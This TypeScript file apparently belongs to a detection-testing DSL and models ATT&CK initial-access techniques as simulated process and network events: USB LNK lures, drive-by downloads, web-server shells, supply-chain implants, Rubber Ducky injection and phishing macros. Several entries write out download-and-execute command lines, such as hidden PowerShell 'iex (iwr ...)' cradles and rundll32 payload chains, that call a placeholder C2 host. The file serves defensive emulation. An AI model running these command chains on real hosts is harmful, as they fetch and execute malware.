import { t, v } from "../dsl";

const OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";

/** Initial access: the first process a defender sees after the lure, exploit or login. */
export const initialAccess = [
  t(
    "T1091",
    "Replication through removable media",
    "An LNK on a USB stick starts the payload (Raspberry Robin).",
    [
      v(
        "usb-lnk",
        [
          // The stick is plugged in; the user opens the LNK disguised as a folder on it.
          { by: "@system", then: [{ id: "usb", kind: "device.connect", device: "usb-storage" }] },
          {
            cmd: 'C:\\Windows\\System32\\cmd.exe /RS/C "{{rand}}.DaT<{{rand}}.lnK|cmd"',
            as: "c",
            parent: "@explorer",
            cwd: "E:\\",
            reads: ["E:\\{{rand}}.DaT"],
          },
          { cmd: "msiexec /q /i http://{{c2}}/{{rand}}", parent: "c", net: [["{{c2}}", 80]] },
        ],
        { shell: "none" },
      ),
      // A USB-spreading implant (PlugX / Sogu style) copies itself into a hidden folder on each new removable
      // drive and leaves an LNK named after the drive that runs it.
      v(
        "implant-copies-to-usb",
        [
          {
            cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
            as: "imp",
            parent: "@explorer",
            keep: true,
          },
          {
            by: "@system",
            then: [{ id: "usb", kind: "device.connect", device: "usb-storage" }],
          },
          {
            by: "imp",
            files: ["E:\\RECYCLER.BIN\\{{rand}}\\{{name}}.exe", "E:\\USB Drive.lnk"],
          },
          { cmd: "attrib.exe +h +s E:\\RECYCLER.BIN", parent: "imp" },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1133",
    "External remote services",
    "VPN/RDP gateway access from the internet; the host sees the remote logon.",
    [
      v(
        "rdp-from-gateway",
        [
          {
            by: "@system",
            then: [
              {
                id: "l",
                kind: "logon",
                host: "@server",
                session: "ext",
                user: "@user",
                logonType: 10,
                source: "{{ip}}",
                authPackage: "Negotiate",
              },
            ],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1189", "Drive-by compromise", "A browser visit drops and runs a payload.", [
    v(
      "browser-drop",
      [
        { by: "@msedge", net: [["{{c2}}", 443]], files: ["{{downloads}}\\{{name}}_update.exe"] },
        { cmd: "{{downloads}}\\{{name}}_update.exe", parent: "@explorer" },
      ],
      { shell: "none" },
    ),
    v(
      "fake-update-js",
      [
        { by: "@msedge", net: [["{{c2}}", 443]], files: ["{{downloads}}\\Chrome.Update.{{rand}}.js"] },
        {
          cmd: 'wscript.exe "{{downloads}}\\Chrome.Update.{{rand}}.js"',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1190",
    "Exploit public-facing application",
    "A web server process spawning a shell after exploitation.",
    [
      v(
        "w3wp-cmd",
        [
          {
            cmd: 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\\\.\\pipe\\iisipm{{rand}} -h "C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config" -w "" -m 0',
            as: "w3",
            host: "@server",
            parent: "@svchost:netsvcs",
            user: "@networkservice",
            keep: true,
          },
          { cmd: 'cmd.exe /c "whoami /all"', parent: "w3", host: "@server", as: "c" },
          { cmd: "whoami  /all", parent: "c", host: "@server" },
        ],
        { shell: "none" },
      ),
      v(
        "tomcat-cmd",
        [
          {
            cmd: '"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\tomcat9.exe" //RS//Tomcat9',
            as: "tc",
            host: "@server",
            parent: "@services",
            user: "@system",
            keep: true,
          },
          {
            cmd: 'cmd.exe /c powershell -nop -c "iwr http://{{c2}}/x.exe -OutFile C:\\Windows\\Temp\\x.exe"',
            parent: "tc",
            host: "@server",
            as: "c",
          },
          {
            cmd: 'powershell  -nop -c "iwr http://{{c2}}/x.exe -OutFile C:\\Windows\\Temp\\x.exe"',
            parent: "c",
            host: "@server",
            net: [["{{c2}}", 80]],
            files: ["C:\\Windows\\Temp\\x.exe"],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1195", "Supply chain compromise", "A trojanised update run by the vendor's updater.", [
    v(
      "updater",
      [
        {
          cmd: '"C:\\Program Files\\{{name}}\\updater.exe" /silent',
          as: "u",
          parent: "@services",
          user: "@system",
        },
        { cmd: "C:\\ProgramData\\{{name}}\\{{rand}}.exe", parent: "u", net: [["{{c2}}", 443]] },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1195.001", "Compromised dependencies and tools", "A poisoned package's install script runs.", [
    v("npm-postinstall", [
      {
        cmd: '"C:\\Program Files\\nodejs\\node.exe" {{home}}\\src\\app\\node_modules\\{{rand}}\\install.js',
        net: [["{{c2}}", 443]],
      },
    ]),
    // Octopus Scanner: a backdoored NetBeans project whose build (run by Ant inside the IDE's JVM) loads
    // nbproject\cache.dat, which drops the JAR implant as ExplorerSync.db under %LOCALAPPDATA%\Microsoft.
    v(
      "netbeans-build",
      [
        {
          cmd: '"C:\\Program Files\\NetBeans-{{12.0|11.3}}\\netbeans\\bin\\netbeans64.exe"',
          as: "nb",
          reads: ["{{home}}\\Documents\\NetBeansProjects\\{{name}}\\nbproject\\cache.dat"],
          files: ["{{local}}\\Microsoft\\ExplorerSync.db"],
          keep: true,
        },
        {
          cmd: '"C:\\Program Files\\Java\\jre1.8.0_251\\bin\\javaw.exe" -jar {{local}}\\Microsoft\\ExplorerSync.db',
          parent: "nb",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1195.002",
    "Compromised software supply chain",
    "Signed vendor software beaconing after a malicious update (3CX-style).",
    [
      v(
        "desktop-app",
        [
          {
            cmd: '"{{local}}\\Programs\\3CXDesktopApp\\3CXDesktopApp.exe"',
            parent: "@explorer",
            loads: ["{{local}}\\Programs\\3CXDesktopApp\\ffmpeg.dll"],
            net: [["{{c2}}", 443]],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1195.003",
    "Compromised hardware supply chain",
    "Pre-installed implant; seen as an unexpected service at boot.",
    [
      v(
        "service",
        [
          {
            cmd: "C:\\Windows\\System32\\{{rand}}svc.exe",
            parent: "@services",
            user: "@system",
            net: [["{{c2}}", 443]],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1199", "Trusted relationship", "A provider's RMM agent runs commands.", [
    v(
      "rmm",
      [
        {
          cmd: '"C:\\Program Files (x86)\\ATERA Networks\\AteraAgent\\AteraAgent.exe"',
          as: "a",
          parent: "@services",
          user: "@system",
        },
        { cmd: 'cmd.exe /c net group "domain admins" /domain', parent: "a", as: "c" },
        { cmd: 'net  group "domain admins" /domain', parent: "c" },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1200", "Hardware additions", "A rogue USB keyboard, network adapter or drive attached.", [
    // A keystroke injector (Rubber Ducky) enumerates as a keyboard and types Win+R and a download cradle.
    v(
      "keystroke-injector",
      [
        { by: "@system", then: [{ id: "usb", kind: "device.connect", device: "usb-keyboard" }] },
        {
          cmd: 'powershell.exe -w hidden -nop -c "iex (iwr http://{{c2}}/d -UseBasicParsing)"',
          parent: "@explorer",
          net: [["{{c2}}", 80]],
          delay: 2500,
        },
      ],
      { shell: "none" },
    ),
    // A USB Ethernet implant (LAN Turtle) placed on a workstation: the new adapter is the only host evidence.
    v(
      "usb-nic-implant",
      [{ by: "@system", then: [{ id: "usb", kind: "device.connect", device: "usb-ethernet" }] }],
      {
        shell: "none",
      },
    ),
    // The same drop on a host whose device installation restrictions forbid removable storage.
    v(
      "usb-storage-blocked",
      [
        {
          by: "@system",
          then: [{ id: "usb", kind: "device.connect", device: "usb-storage", blocked: true }],
        },
      ],
      { shell: "none" },
    ),
  ]),
  t("T1566", "Phishing", "A mail attachment opened from Outlook.", [
    v(
      "outlook-attachment",
      [
        {
          cmd: `"${OUTLOOK}" `,
          as: "ol",
          parent: "@explorer",
          files: ["{{local}}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{rand}}\\Invoice_{{n}}.docm"],
        },
        {
          cmd: `"${WORD}" /n "{{local}}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{rand}}\\Invoice_{{n}}.docm" /o ""`,
          parent: "ol",
        },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1566.001",
    "Spearphishing attachment",
    "Outlook attachment → Word/Excel macro → child process; ISO/LNK attachments.",
    [
      v(
        "docm-macro",
        [
          {
            cmd: `"${OUTLOOK}" `,
            as: "ol",
            parent: "@explorer",
            files: [
              "{{local}}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{rand}}\\Invoice_{{n}}.docm",
            ],
          },
          {
            cmd: `"${WORD}" /n "{{local}}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{rand}}\\Invoice_{{n}}.docm" /o ""`,
            as: "w",
            parent: "ol",
          },
          {
            cmd: 'cmd.exe /c powershell -w hidden -nop -c "iwr http://{{c2}}/{{rand}}.dll -OutFile $env:TEMP\\{{rand}}.dll; rundll32 $env:TEMP\\{{rand}}.dll,DllRegisterServer"',
            parent: "w",
            as: "c",
          },
          {
            cmd: 'powershell  -w hidden -nop -c "iwr http://{{c2}}/{{rand}}.dll -OutFile $env:TEMP\\{{rand}}.dll; rundll32 $env:TEMP\\{{rand}}.dll,DllRegisterServer"',
            parent: "c",
            as: "ps",
            net: [["{{c2}}", 80]],
            files: ["{{tmp}}\\{{rand}}.dll"],
          },
          {
            cmd: '"C:\\Windows\\system32\\rundll32.exe" {{tmp}}\\{{rand}}.dll,DllRegisterServer',
            parent: "ps",
            loads: ["{{tmp}}\\{{rand}}.dll"],
          },
        ],
        { shell: "none" },
      ),
      v(
        "iso-lnk",
        [
          {
            cmd: `"${OUTLOOK}" `,
            as: "ol",
            parent: "@explorer",
            files: [
              "{{local}}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{rand}}\\Document_{{n}}.iso",
            ],
          },
          {
            cmd: "C:\\Windows\\System32\\cmd.exe /c start rundll32 {{rand}}.dll,#1",
            as: "c",
            parent: "@explorer",
          },
          { cmd: "rundll32 {{rand}}.dll,#1", parent: "c", net: [["{{c2}}", 443]] },
        ],
        { shell: "none" },
      ),
      v(
        "onenote",
        [
          {
            cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE" /hyperlink "{{local}}\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{{rand}}\\Scan_{{n}}.one"',
            as: "on",
            parent: "@explorer",
          },
          {
            cmd: 'C:\\Windows\\System32\\cmd.exe /c ""{{tmp}}\\OneNote\\16.0\\Exported\\{{{rand2}}-0000-0000-0000-000000000000}\\NT\\0\\open.bat" "',
            parent: "on",
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
];
